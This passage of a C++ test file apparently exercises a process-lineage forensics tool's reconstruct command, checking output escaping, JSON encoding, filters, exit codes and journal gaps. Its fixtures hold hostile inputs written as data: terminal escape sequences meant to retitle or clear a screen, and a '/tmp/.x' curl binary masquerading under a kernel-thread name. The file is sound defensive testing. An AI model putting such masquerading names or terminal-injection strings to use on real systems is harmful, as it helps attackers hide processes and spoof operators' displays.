    Proc bash = fx.snapshot(9000, 1, at(930, 0), "bash", "/usr/bin/bash", {"bash"});
    Proc p = FixtureJournal::proc(9001, at(1010, 111'111'111));
    fx.fork(bash, p, at(1010, 111'111'111));
    ExecOpts opts;
    opts.comm = "\x1b[31mevil\x7f";
    fx.exec(p, "/usr/bin/printf", kHostileArgs, at(1010, 112'000'000), opts);
    // A child that never execs: shown as a fork of printf, with its (hostile) comm.
    Proc child = FixtureJournal::proc(9002, at(1010, 200'000'000));
    fx.fork(p, child, at(1010, 200'000'000));
    fx.exit(child, at(1010, 300'000'000), 0, 9);
    fx.exit(p, at(1010, 400'000'000), 0);
    // A binary path with a newline, hidden behind a kernel-thread argv[0].
    Proc k = FixtureJournal::proc(9003, at(1011, 0));
    fx.fork(bash, k, at(1011, 0));
    fx.exec(k, "/tmp/.x\n/curl", {"[kworker/0:1]"}, at(1011, 1'000'000));
    // 100 KB in one argument.
    Proc big = FixtureJournal::proc(9004, at(1012, 0));
    fx.fork(bash, big, at(1012, 0));
    fx.exec(big, "/usr/bin/python3", {"python3", "-c", kBigArg}, at(1012, 1'000'000));
    fx.exit(big, at(1013, 0), 1);
    return fx;
}

}  // namespace

TEST_CASE("hostile argv: escaped in text, valid UTF-8 in JSON, raw bytes kept", "[reconstruct]") {
    Case c(hostile_fixture(), "hostile.db");

    RunResult all = c.run(kIncidentSince, kIncidentUntil, kNoColor);
    CHECK(all.status == 0);
    CHECK(first_control_byte(all.out) == "");
    CHECK(first_control_byte(all.err) == "");
    CHECK(lineage::is_valid_utf8(all.out));
    CHECK(golden_mismatch("hostile_argv.txt", all.out) == "");
    CHECK(all.out.find("\\x1b]0;pwned\\x07") != std::string::npos);
    CHECK(all.out.find("\\x1b[2J") != std::string::npos);
    CHECK(all.out.find("two\\nlines") != std::string::npos);
    CHECK(all.out.find("\\xff\\xfe") != std::string::npos);
    CHECK(all.out.find("[fork of printf, comm \\x1b[31mevil\\x7f]") != std::string::npos);  // the child's comm
    CHECK(all.out.find("[/tmp/.x\\n/curl] ") != std::string::npos);  // the real binary beside argv[0]
    // The 100 KB argument is cut for display: no line anywhere near it.
    size_t longest = 0;
    for (size_t pos = 0, nl; pos < all.out.size(); pos = nl + 1) {
        nl = all.out.find('\n', pos);
        if (nl == std::string::npos) nl = all.out.size();
        longest = std::max(longest, nl - pos);
    }
    CHECK(longest < 4096);

    SECTION("JSON of one hostile process (golden)") {
        RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--descendants-of", "9001", "--format", "json"});
        CHECK(r.status == 0);
        CHECK(golden_mismatch("hostile_argv.json", r.out) == "");
        CHECK(lineage::is_valid_utf8(r.out));
        json doc = json::parse(r.out);
        auto p = node_with_pid(all_nodes(doc), 9001);
        REQUIRE(p);
        const json& exec = p->at("execs")[0];
        CHECK(exec.at("args")[1] == "\x1b]0;pwned\x07");          // valid UTF-8 passes unchanged, JSON-escaped
        CHECK(exec.at("args")[4] == "\xef\xbf\xbd\xef\xbf\xbd");  // U+FFFD twice
        REQUIRE(exec.contains("raw_b64"));
        CHECK(base64_decode(exec.at("raw_b64").at("binary")) == "/usr/bin/printf");
        REQUIRE(exec.at("raw_b64").at("args").size() == kHostileArgs.size());
        for (size_t i = 0; i < kHostileArgs.size(); ++i) {
            CHECK(base64_decode(exec.at("raw_b64").at("args")[i]) == kHostileArgs[i]);
        }
        CHECK(r.out.find("\\u001b]0;pwned\\u0007") != std::string::npos);
    }

    SECTION("JSON of everything, with the 100 KB argument") {
        RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--format", "json"});
        CHECK(r.status == 0);
        CHECK(lineage::is_valid_utf8(r.out));
        json doc;
        REQUIRE_NOTHROW(doc = json::parse(r.out));
        auto big = node_with_pid(all_nodes(doc), 9004);
        REQUIRE(big);
        const json& exec = big->at("execs")[0];
        REQUIRE(exec.contains("raw_b64"));
        CHECK(base64_decode(exec.at("raw_b64").at("args")[2]) == kBigArg);
        CHECK(exec.at("args")[2].get<std::string>().size() == kBigArg.size() + 2);  // 0xff -> U+FFFD
        CHECK(exec.at("args_truncated") == false);
        // Images without invalid UTF-8 carry no raw copy.
        auto k = node_with_pid(all_nodes(doc), 9003);
        REQUIRE(k);
        CHECK(k->at("execs")[0].at("binary") == "/tmp/.x\n/curl");
        CHECK_FALSE(k->at("execs")[0].contains("raw_b64"));
    }
}

// ============================================================== hostile comm in a warning

namespace {

// A backslash, an escape sequence and an invalid byte in a comm that
// warnings name: each byte comes out escaped exactly once, in the tree, in
// the warnings and on stderr.
const std::string kHostileComm = "a\\b\x1b[1m\xff";
const std::string kHostileParentComm = "p\\q\x1b]0;x\x07\xfe";

FixtureJournal hostile_comm_fixture() {
    FixtureJournal fx;
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    // Seen only through its exit: its parent is unknown.
    Proc ghost = FixtureJournal::proc(7700, at(700, 0));
    fx.comm(ghost, kHostileComm);
    fx.exit(ghost, at(1010, 0), 0);
    // Its exec names a parent that no row introduced.
    Proc parent = FixtureJournal::proc(7750, at(800, 0));
    fx.comm(parent, kHostileParentComm);
    Proc job = FixtureJournal::proc(7800, at(1020, 555'555'555));
    ExecOpts opts;
    opts.parent = parent;
    fx.exec(job, "/usr/bin/true", {"true"}, at(1020, 556'000'000), opts);
    fx.exit(job, at(1021, 0), 0);
    return fx;
}

}  // namespace

TEST_CASE("hostile comm in a warning: escaped once in text and on stderr, valid UTF-8 in JSON", "[reconstruct]") {
    Case c(hostile_comm_fixture(), "hostile_comm.db");
    const std::string ghost_warning =
        "parent of a\\\\b\\x1b[1m\\xff (PID 7700) is unknown: it started before the "
        "journal and is not in the /proc snapshot";
    const std::string job_warning =
        "parent of true (PID 7800) is p\\\\q\\x1b]0;x\\x07\\xfe (PID 7750), which is not in the journal";
    // What escaping twice would print: an escaped backslash before an escape.
    auto escaped_twice = [](const std::string& s) {
        return s.find("\\\\\\\\") != std::string::npos || s.find("\\\\x") != std::string::npos;
    };

    RunResult text = c.run(kIncidentSince, kIncidentUntil, kNoColor);
    CHECK(text.status == 0);
    CHECK(golden_mismatch("hostile_comm.txt", text.out) == "");
    CHECK(first_control_byte(text.out) == "");
    CHECK(first_control_byte(text.err) == "");
    CHECK(text.out.find("warning: " + ghost_warning + "\n") != std::string::npos);
    CHECK(text.out.find("warning: " + job_warning + "\n") != std::string::npos);
    CHECK(text.out.find("[a\\\\b\\x1b[1m\\xff]  (PID 7700)") != std::string::npos);
    CHECK(text.out.find("parent not in the journal: p\\\\q\\x1b]0;x\\x07\\xfe (PID 7750)\n") != std::string::npos);
    CHECK(text.err == "lineage: warning: " + ghost_warning + "\nlineage: warning: " + job_warning + "\n");
    CHECK_FALSE(escaped_twice(text.out));
    CHECK_FALSE(escaped_twice(text.err));

    RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--format", "json"});
    CHECK(r.status == 0);
    CHECK(golden_mismatch("hostile_comm.json", r.out) == "");
    CHECK(lineage::is_valid_utf8(r.out));
    CHECK(r.err == text.err);
    json doc = json::parse(r.out);
    // The raw bytes, invalid ones as U+FFFD: not the terminal's escapes.
    REQUIRE(doc.at("warnings").size() == 2);
    CHECK(doc.at("warnings")[0].at("kind") == "unknown_parent");
    CHECK(doc.at("warnings")[0].at("message") ==
          "parent of a\\b\x1b[1m\xef\xbf\xbd (PID 7700) is unknown: it started before the journal and is not in "
          "the /proc snapshot");
    CHECK(doc.at("warnings")[1].at("message") ==
          "parent of true (PID 7800) is p\\q\x1b]0;x\x07\xef\xbf\xbd (PID 7750), which is not in the journal");
    auto job = node_with_pid(all_nodes(doc), 7800);
    REQUIRE(job);
    CHECK(job->at("outside_parent").at("comm") == "p\\q\x1b]0;x\x07\xef\xbf\xbd");
    CHECK(job->at("outside_parent").at("why") == "not in the journal");
}

// ============================================================== exit status

TEST_CASE("exit status: 0 matched, 1 nothing matched, 2 error", "[reconstruct]") {
    Case c(incident_fixture(), "incident.db");

    RunResult ok = c.run(kIncidentSince, kIncidentUntil, with({"--pod", kIncidentPodName}, kNoColor));
    CHECK(ok.status == 0);

    RunResult none = c.run(kIncidentSince, kIncidentUntil, with({"--pod", "nosuchpod"}, kNoColor));
    CHECK(none.status == 1);
    CHECK(none.out == "");
    CHECK(none.err == "");
    RunResult none_json = c.run(kIncidentSince, kIncidentUntil, {"--pod", "nosuchpod", "--format", "json"});
    CHECK(none_json.status == 1);
    json doc = json::parse(none_json.out);
    CHECK(doc.at("matched") == 0);
    CHECK(doc.at("trees").empty());

    // A window with nothing in it (the journal ends at 09:03:20).
    RunResult late = c.run("2026-04-22T10:00:00Z", "2026-04-22T11:00:00Z", with({"--pod", kIncidentPodName}, kNoColor));
    CHECK(late.status == 1);

    RunResult bad = c.run("yesterday-ish", kIncidentUntil, kNoColor);
    CHECK(bad.status == 2);
    CHECK(bad.out == "");
    CHECK(bad.err ==
          "lineage reconstruct: --since: invalid time 'yesterday-ish': expected RFC 3339 (2026-04-22T09:14:03Z), "
          "local time (2026-04-22 09:14), epoch (@1745296443), relative (-15m, -2h, -7d) or now\n");

    RunResult reversed = c.run(kIncidentUntil, kIncidentSince, kNoColor);
    CHECK(reversed.status == 2);
    CHECK(reversed.err.find("is after --until") != std::string::npos);

    RunResult missing =
        run_lineage(reconstruct_args({"nope.db"}, kIncidentSince, kIncidentUntil, kNoColor), c.dir.path());
    CHECK(missing.status == 2);
    CHECK(missing.err.find("nope.db: cannot open") != std::string::npos);
}

// ============================================================== build_report on models

namespace {

// The incident, plus a second pod in another namespace.
const std::string kStagingUid = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";
const std::string kStagingContainer = "9e8d7c6b5a49382716051f2e3d4c5b6a798897a6b5c4d3e2f10213243546576a";

lineage::Model two_pod_model() {
    FixtureJournal fx = incident_fixture();
    fx.pod(kStagingUid, "web-7f8c9-abcde", "staging");
    Proc shim = FixtureJournal::proc(18150, at(940, 801'234'567));
    Proc web = FixtureJournal::proc(20001, at(1020, 10'000'000));
    fx.fork(shim, web, at(1020, 10'000'000));
    fx.exec(web, "/usr/sbin/nginx", {"nginx"}, at(1020, 11'000'000), pod_cgroup(kStagingUid, kStagingContainer),
            "web-7f8c9-abcde", 1);
    Proc curl = FixtureJournal::proc(20002, at(1030, 0));
    fx.fork(web, curl, at(1030, 0));
    fx.exec(curl, "/usr/local/bin/curl", {"curl", "localhost"}, at(1030, 1'000'000));
    fx.exit(curl, at(1031, 0), 0);
    return fx.build_model();
}

lineage::Query window_query() {
    lineage::Query q;
    q.since_wall_ns = kWall0;
    q.until_wall_ns = kWall0 + 300LL * 1'000'000'000;
    return q;
}

std::set<uint32_t> matched_pids(const lineage::Report& report) {
    std::set<uint32_t> out;
    for (const auto& t : report.trees)
        for (const auto& n : t.nodes)
            if (n.matched) out.insert(n.process->tgid);
    return out;
}

std::set<uint32_t> shown_pids(const lineage::Report& report) {
    std::set<uint32_t> out;
    for (const auto& t : report.trees)
        for (const auto& n : t.nodes) out.insert(n.process->tgid);
    return out;
}

}  // namespace

TEST_CASE("build_report: --descendants-of and --ancestors-of", "[reconstruct]") {
    lineage::Model model = two_pod_model();

    SECTION("descendants of 18294: itself and everything below, with the chain above for context") {
        lineage::Query q = window_query();
        q.descendants_of = 18294;
        auto report = lineage::build_report(model, q);
        CHECK(report.matched == 3);
        CHECK(matched_pids(report) == std::set<uint32_t>{18294, 18295, 18296});
        CHECK(shown_pids(report) == std::set<uint32_t>{1, 18150, 18201, 18293, 18294, 18295, 18296});
        REQUIRE(report.trees.size() == 1);
        CHECK(report.trees[0].root().process->tgid == 1);
        CHECK_FALSE(report.trees[0].outside_parent);
    }
    SECTION("descendants of the shim cross into both pods") {
        lineage::Query q = window_query();
        q.descendants_of = 18150;
        auto report = lineage::build_report(model, q);
        CHECK(matched_pids(report) == std::set<uint32_t>{18150, 18201, 18293, 18294, 18295, 18296, 20001, 20002});
    }
    SECTION("ancestors of curl: one chain up to PID 1, past the pod boundary") {
        lineage::Query q = window_query();
        q.ancestors_of = 18296;
        auto report = lineage::build_report(model, q);
        CHECK(report.matched == 1);
        CHECK(matched_pids(report) == std::set<uint32_t>{18296});
        CHECK(shown_pids(report) == std::set<uint32_t>{1, 18150, 18201, 18293, 18294, 18296});
        REQUIRE(report.trees.size() == 1);
        // A chain: every node has at most one child.
        const lineage::Tree& tree = report.trees[0];
        const lineage::TreeNode* n = &tree.root();
        std::vector<uint32_t> chain;
        while (n) {
            chain.push_back(n->process->tgid);
            CHECK(n->children.size() <= 1);
            n = n->children.empty() ? nullptr : &tree.nodes[n->children[0]];
        }
        CHECK(chain == std::vector<uint32_t>{1, 18150, 18201, 18293, 18294, 18296});
    }
    SECTION("ancestors of a PID that is not there: nothing") {
        lineage::Query q = window_query();
        q.ancestors_of = 31337;
        auto report = lineage::build_report(model, q);
        CHECK(report.matched == 0);
        CHECK(report.trees.empty());
    }
}

TEST_CASE("build_report: --binary glob", "[reconstruct]") {
    CHECK(lineage::binary_matches("curl", "/usr/bin/curl"));
    CHECK(lineage::binary_matches("/usr/*/curl", "/usr/bin/curl"));
    CHECK_FALSE(lineage::binary_matches("/usr/*/curl", "/opt/bin/curl"));
    // '*' does not cross '/', as in a shell glob.
    CHECK_FALSE(lineage::binary_matches("/usr/*/curl", "/usr/local/bin/curl"));
    CHECK_FALSE(lineage::binary_matches("cur", "/usr/bin/curl"));
    CHECK_FALSE(lineage::binary_matches("/curl", "/usr/bin/curl"));  // with '/': the whole path
    CHECK(lineage::binary_matches("c?rl", "/usr/bin/curl"));

    lineage::Model model = two_pod_model();
    auto pids_for = [&](const std::string& glob) {
        lineage::Query q = window_query();
        q.binary_glob = glob;
        return matched_pids(lineage::build_report(model, q));
    };
    CHECK(pids_for("curl") == std::set<uint32_t>{18296, 20002});
    CHECK(pids_for("/usr/bin/curl") == std::set<uint32_t>{18296});
    CHECK(pids_for("/usr/local/bin/*") == std::set<uint32_t>{18201, 20002});
    CHECK(pids_for("/usr/*/curl") == std::set<uint32_t>{18296});
    CHECK(pids_for("sh") == std::set<uint32_t>{18293, 18294});
    CHECK(pids_for("containerd-shim*") == std::set<uint32_t>{18150});  // the snapshot's exe counts
    CHECK(pids_for("nosuch").empty());
}

TEST_CASE("build_report: --namespace and --container prefix", "[reconstruct]") {
    lineage::Model model = two_pod_model();
    auto run = [&](auto set) {
        lineage::Query q = window_query();
        set(q);
        return lineage::build_report(model, q);
    };
    const std::set<uint32_t> production{18201, 18293, 18294, 18295, 18296};
    const std::set<uint32_t> staging{20001, 20002};

    auto prod = run([](lineage::Query& q) { q.namespace_ = "production"; });
    CHECK(matched_pids(prod) == production);
    REQUIRE(prod.trees.size() == 1);
    REQUIRE(prod.trees[0].outside_parent);
    CHECK(prod.trees[0].outside_parent->why == lineage::OutsideReason::outside_pod);

    auto stag = run([](lineage::Query& q) { q.namespace_ = "staging"; });
    CHECK(matched_pids(stag) == staging);
    CHECK(shown_pids(stag) == staging);  // the shim stays outside

    CHECK(run([](lineage::Query& q) { q.namespace_ = "prod"; }).matched == 0);  // namespaces are exact

    CHECK(matched_pids(run([](lineage::Query& q) { q.container = "4f1a2b"; })) == production);
    CHECK(matched_pids(run([](lineage::Query& q) { q.container = kIncidentContainer; })) == production);
    CHECK(matched_pids(run([](lineage::Query& q) { q.container = "9e8d7c6b5a49"; })) == staging);
    CHECK(run([](lineage::Query& q) { q.container = "f1a2b3"; }).matched == 0);  // a prefix, not a substring
    CHECK(run([](lineage::Query& q) { q.container = ""; }).matched == 0);

    auto both = run([](lineage::Query& q) {
        q.namespace_ = "staging";
        q.container = "4f1a2b";
    });
    CHECK(both.matched == 0);  // filters combine

    // The journal file is not needed: pod names come from the model's pods rows.
    auto by_uid = run([](lineage::Query& q) { q.pod = kStagingUid; });
    CHECK(matched_pids(by_uid) == staging);
}

// ============================================================== the end of a run

TEST_CASE("run_end_ns: one end of a run, for lives without an exit and for gaps between runs", "[reconstruct][model]") {
    constexpr int64_t s = 1'000'000'000;
    lineage::RunRecord run;
    run.journal = "j.db";
    run.boot_id = "b";
    run.started_ns = 100 * s;
    run.last_batch_ns = 200 * s;
    CHECK(lineage::run_end_ns(run) == 200 * s);  // killed: its last batch
    run.stopped_ns = 250 * s;
    CHECK(lineage::run_end_ns(run) == 250 * s);  // stopped after its last batch
    run.stopped_ns = 150 * s;
    CHECK(lineage::run_end_ns(run) == 200 * s);  // a batch committed after the stop's time
    run.stopped_ns.reset();
    run.last_batch_ns = 0;
    CHECK(lineage::run_end_ns(run) == 100 * s);  // nothing committed: it ended where it started

    // Two runs of one journal: killed at 200 s, then 300 s to 400 s.
    lineage::Model model;
    lineage::RunRecord first = run;
    first.run_id = 1;
    first.started_wall_ns = kWall0 + first.started_ns;
    first.last_batch_ns = 200 * s;
    lineage::RunRecord second = first;
    second.run_id = 2;
    second.started_ns = 300 * s;
    second.started_wall_ns = kWall0 + second.started_ns;
    second.last_batch_ns = 350 * s;
    second.stopped_ns = 400 * s;
    model.add_run(second);
    model.add_run(first);
    model.finish();
    CHECK(model.journal_end_ns("b") == 400 * s);
    CHECK(model.journal_end_ns("another boot") == 0);

    lineage::Query q;
    q.since_wall_ns = kWall0 + 100 * s;
    q.until_wall_ns = kWall0 + 400 * s;
    auto report = lineage::build_report(model, q);
    REQUIRE(report.warnings.size() == 1);
    const lineage::Warning& gap = report.warnings[0];
    CHECK(gap.kind == lineage::WarningKind::not_recorded);
    CHECK(gap.from_wall_ns == kWall0 + 200 * s);
    CHECK(gap.to_wall_ns == kWall0 + 300 * s);
    CHECK(gap.message.find("from the end of run 1 (not stopped cleanly) to the start of run 2") != std::string::npos);
}

}  // namespace test_reconstruct
